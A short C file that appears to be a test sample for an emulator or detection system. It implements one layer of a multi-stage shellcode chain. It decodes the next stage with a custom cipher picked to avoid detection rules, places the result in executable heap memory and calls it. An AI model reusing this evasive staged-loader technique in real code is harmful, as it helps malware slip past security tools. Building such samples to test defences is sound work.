/*
 * layer1_heap.c - first shellcode layer of the file-heap-cipher chain (benign, emulator-only).
 *
 * Position independent, one function, no data. Decodes the next layer (ctx->c.next, still
 * encoded in the loader's heap copy of the file) with a cipher no lineage rule names (swap the
 * two nibbles of each byte, then add (key0 + i * key_step) & 0xff) into a new heap block
 * (HeapAlloc on the process heap, which Windows' default heap policy leaves executable here) and
 * calls it there with the same context block.
 */
#include "heapctx.h"

DWORD WINAPI sc_main(struct heap_ctx *h)
{
    typedef DWORD (WINAPI *entry_t)(struct sc_ctx *);
    struct sc_ctx *c = &h->c;
    unsigned char *dst;
    unsigned char b;
    DWORD i;
    if (!c->next || !c->next_len)
        return 3;
    dst = (unsigned char *)h->pHeapAlloc(h->heap, 0, c->next_len);
    if (!dst)
        return 4;
    for (i = 0; i < c->next_len; i++) {
        b = c->next[i];
        dst[i] = (unsigned char)(((b << 4) | (b >> 4)) + c->key0 + i * c->key_step);
    }
    return ((entry_t)(void *)dst)(c);
}
